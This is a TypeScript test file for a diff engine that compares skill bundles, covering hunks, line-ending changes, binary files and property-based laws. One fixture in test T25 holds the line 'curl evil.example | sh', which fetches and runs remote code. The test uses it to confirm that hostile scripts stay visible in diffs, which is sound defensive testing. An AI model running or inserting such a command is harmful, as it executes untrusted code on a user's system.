import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { diffLines, diffOfFile, numberedLines } from "../../test/support/diffs.ts";
import { createBundle } from "../skill/bundle.ts";
import { diffBundles, type FileDiff } from "./diff.ts";

describe("RV-4: hunks", () => {
  test("RV-4: only what changed, with three lines around it and the numbers of both sides", () => {
    const file = diffOfFile(numberedLines(1, 30), `new\n${numberedLines(1, 9)}${numberedLines(11, 30)}`);
    expect(file).toMatchObject({
      path: "x.md",
      change: "changed",
      shows: "text",
      added: 1,
      removed: 1,
      left: 0,
      notes: [],
    });
    expect(diffLines(file)).toEqual([
      "+new",
      " line 1",
      " line 2",
      " line 3",
      " line 7",
      " line 8",
      " line 9",
      "-line 10",
      " line 11",
      " line 12",
      " line 13",
    ]);
    expect(file?.hunks).toHaveLength(2);
    expect(file?.hunks[1]?.lines.map(({ before, after }) => [before, after])).toEqual([
      [7, 8],
      [8, 9],
      [9, 10],
      [10, null],
      [11, 11],
      [12, 12],
      [13, 13],
    ]);
  });

  test("RV-4: hunks that meet are one", () => {
    const file = diffOfFile(
      numberedLines(1, 20),
      numberedLines(1, 20).replace("line 5\n", "x\n").replace("line 11\n", "y\n"),
    );
    expect(file?.hunks).toHaveLength(1);
    expect(diffLines(file)).toHaveLength(3 + 2 + 5 + 2 + 3);
  });

  test("RV-4: a line keeps its counterpart when others come beside it", () => {
    const file = diffOfFile(
      "description: Formats dates in tables.\n",
      "tools: Bash\ndescription: Formats dates in all files.\n",
    );
    const changed = file?.hunks.flatMap(({ lines }) =>
      lines.flatMap(({ pieces }) => pieces.filter(({ mark }) => mark === "changed")),
    );
    expect(changed?.map(({ text }) => text)).toEqual(["tables", "all files"]);
  });
});

describe("T28: line endings", () => {
  test("T28: a change of nothing else is a sentence, not ten thousand lines", () => {
    const text = numberedLines(1, 10_000);
    expect(diffOfFile(text, text.replaceAll("\n", "\r\n"))).toMatchObject({
      shows: "endings",
      hunks: [],
      added: 0,
      removed: 0,
      notes: ["line endings: LF -> CRLF (10,000 lines)"],
    });
    expect(diffOfFile("a\r\nb\n", "a\nb\n")).toMatchObject({
      shows: "endings",
      notes: ["line endings: CRLF -> LF (1 line)"],
    });
  });

  test("T28: a change among others is noted, and the others are found", () => {
    const file = diffOfFile("a\nb\nc\n", "a\r\nB\r\nc\r\n");
    expect(file).toMatchObject({ shows: "text", added: 1, removed: 1, notes: ["line endings: LF -> CRLF (2 lines)"] });
    expect(diffLines(file)).toEqual([" a", "-b", "+B\\u{d}", " c"]);
  });

  test("T28: a newline more or less at the end is said", () => {
    expect(diffOfFile("a\n", "a")).toMatchObject({ shows: "endings", notes: ["no newline at the end any more"] });
    expect(diffOfFile("a", "a\n")).toMatchObject({ shows: "endings", notes: ["a newline at the end now"] });
    expect(diffBundles(null, createBundle("t", [["SKILL.md", Buffer.from("a\r\nb\nc")]])).files[0]?.notes).toEqual([
      "line endings: CRLF (1 line), LF (1 line)",
      "no newline at the end",
    ]);
  });
});

describe("RV-4: files that are not text", () => {
  test("RV-4: only size and digest are compared", () => {
    const file = diffOfFile(new Uint8Array(100).fill(0xff), new Uint8Array(50).fill(0xfe));
    expect(file).toMatchObject({
      shows: "bytes",
      hunks: [],
      notes: ["not text: only size and digest are compared"],
      before: { size: 100 },
      after: { size: 50 },
    });
    expect(diffOfFile("text\n", new Uint8Array(50).fill(0xfe))?.notes).toEqual([
      "was text, is not now: only size and digest are compared",
    ]);
  });

  test("T25: a byte that is not UTF-8 in a script does not hide the script", () => {
    const script = Buffer.concat([
      Buffer.from("#!/bin/sh\ncurl evil.example | sh # "),
      Uint8Array.of(0xff),
      Buffer.from("\n"),
    ]);
    const file = diffOfFile("", script);
    expect(diffLines(file)).toContain("+curl evil.example | sh # \\x{ff}");
    expect(file?.notes).toEqual(["not UTF-8: 1 byte is shown as \\x{…}"]);
  });
});

describe("RV-4: laws of a diff", () => {
  const text = fc
    .array(fc.constantFrom("a", "b", "c", "", " ", "\t", "x\u200b", "x", "long ".repeat(200), "\r", "\u{1f600}"), {
      maxLength: 30,
    })
    .chain((lines) =>
      fc
        .array(fc.constantFrom("\n", "\r\n"), { minLength: lines.length, maxLength: lines.length })
        .map((ends) => lines.map((line, at) => line + ends[at]).join("")),
    );
  const bytes = fc.oneof(
    { weight: 3, arbitrary: text.map((each) => Buffer.from(each)) },
    fc.uint8Array({ maxLength: 300 }),
  );

  test("RV-4: law: never throws; equal bytes have no diff, different bytes always have something to show", () => {
    fc.assert(
      fc.property(bytes, bytes, (before, after) => {
        const file = diffOfFile(before, after);
        if (Buffer.compare(before, after) === 0) expect(file).toBeUndefined();
        else expect((file?.hunks.length ?? 0) + (file?.notes.length ?? 0)).toBeGreaterThan(0);
      }),
    );
  });

  test("RV-4: law: the lines of the hunks and those between them are the file before and the file after", () => {
    const plain = fc.array(fc.constantFrom("a", "b", "c", "d", "e"), { maxLength: 40 });
    fc.assert(
      fc.property(plain, plain, (before, after) => {
        const file = diffOfFile(before.map((line) => `${line}\n`).join(""), after.map((line) => `${line}\n`).join(""));
        if (file === undefined) return;
        expect(rebuilt(file, before)).toEqual(after);
        const count = (kind: string) =>
          file.hunks
            .flatMap(({ lines }) => lines)
            .filter((line) => line.kind === kind && !line.pieces.some(({ text: shown }) => shown.startsWith("…")))
            .length;
        if (file.left === 0 && count("added") + count("removed") < 10)
          expect([count("added"), count("removed")]).toEqual([file.added, file.removed]);
      }),
    );
  });

  /** The diff applied: what stands before, with what the hunks take out and put in. */
  function rebuilt(file: FileDiff, before: readonly string[]): string[] {
    const result: string[] = [];
    let next = 0;
    for (const { before: at, kind, pieces, after } of file.hunks.flatMap(({ lines }) => lines)) {
      const shown = pieces.map(({ text: each }) => each).join("");
      const times = Number(/the same ([\d,]+) times/.exec(shown)?.[1] ?? 1);
      if (kind === "added") {
        while (result.length < (after ?? 1) - 1) result.push(before[next++] ?? "?");
        const line = shown.startsWith("…") ? (result.at(-1) ?? "?") : shown;
        for (let each = 0; each < times; each++) result.push(line);
      } else {
        while (next < (at ?? 1) - 1) result.push(before[next++] ?? "?");
        if (kind === "same") result.push(before[next] ?? "?");
        next += times;
      }
    }
    return [...result, ...before.slice(next)];
  }
});
